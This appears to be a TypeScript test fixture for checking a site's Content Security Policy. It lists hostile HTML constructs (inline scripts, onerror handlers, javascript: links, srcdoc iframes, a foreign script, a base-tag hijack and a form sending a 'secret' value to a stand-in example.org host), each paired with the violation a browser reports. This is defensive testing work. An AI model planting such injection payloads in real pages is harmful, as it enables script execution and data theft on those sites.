/**
 * Markup a careless or hostile edit could put into an article body, each construct with the
 * violation a browser enforcing the site's policy reports for it. Constructs that run code report
 * it by requesting `/__kena/<name>` on the site, so the server sees it whatever frame or base URL
 * it ran in.
 */

export interface Construct {
  html: string;
  /** `effective-directive blocked-uri`, as the `securitypolicyviolation` event reports it. */
  violation: string;
}

/** Each name a construct requests as `/__kena/<name>` when it runs. */
export const HIT_NAMES = [
  'skrip-inline',
  'onerror',
  'tautan-javascript',
  'iframe-srcdoc',
  'object',
  'embed',
  'skrip-asing',
] as const;

/** What the other origin serves; its script, if it ran, reports `skrip-asing`. */
export function foreignFiles(siteUrl: string): Record<string, string> {
  return {
    'jahat.js': `fetch('${siteUrl}/__kena/skrip-asing');\n`,
    'piksel.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>\n',
  };
}

/** Where an injected <base> would send relative links. */
export const FOREIGN_BASE = 'https://example.org/';
/** Where the injected form would send what it holds. */
export const FORM_ACTION = 'https://example.org/kirim';
/** The colour injected styles try to give their paragraphs. */
export const INJECTED_COLOR = 'rgb(255, 0, 0)';

/** The constructs, for a page served from `siteUrl`, with `foreignUrl` another origin. */
export function hostileConstructs(siteUrl: string, foreignUrl: string): Construct[] {
  const hit = (name: (typeof HIT_NAMES)[number]) => `${siteUrl}/__kena/${name}`;
  return [
    {
      html: `<script>fetch('${hit('skrip-inline')}')</script>`,
      violation: 'script-src-elem inline',
    },
    {
      html: `<img src="${siteUrl}/tidak-ada.png" onerror="fetch('${hit('onerror')}')" alt="">`,
      violation: 'script-src-attr inline',
    },
    {
      html: `<a id="tautan-javascript" href="javascript:void fetch('${hit('tautan-javascript')}')">Klik</a>`,
      violation: 'script-src-elem inline',
    },
    // The srcdoc document inherits the policy of the page that holds it.
    {
      html: `<iframe title="Sisipan" srcdoc="<script>fetch('${hit('iframe-srcdoc')}')</script>"></iframe>`,
      violation: 'script-src-elem inline',
    },
    { html: `<object data="${hit('object')}"></object>`, violation: `object-src ${hit('object')}` },
    { html: `<embed src="${hit('embed')}">`, violation: `object-src ${hit('embed')}` },
    { html: `<base href="${FOREIGN_BASE}">`, violation: `base-uri ${FOREIGN_BASE}` },
    {
      html: `<p id="gaya-atribut" style="color: ${INJECTED_COLOR}">Atribut style</p>`,
      violation: 'style-src-attr inline',
    },
    {
      html: `<style>#gaya-elemen { color: ${INJECTED_COLOR} }</style><p id="gaya-elemen">Elemen style</p>`,
      violation: 'style-src-elem inline',
    },
    {
      html: `<script src="${foreignUrl}/jahat.js"></script>`,
      violation: `script-src-elem ${foreignUrl}/jahat.js`,
    },
    {
      html: `<img src="${foreignUrl}/piksel.svg" alt="">`,
      violation: `img-src ${foreignUrl}/piksel.svg`,
    },
    {
      html: `<form id="formulir" action="${FORM_ACTION}" method="get"><input name="isi" value="rahasia" aria-label="Isi"><button>Kirim</button></form>`,
      violation: `form-action ${FORM_ACTION}?isi=rahasia`,
    },
  ];
}
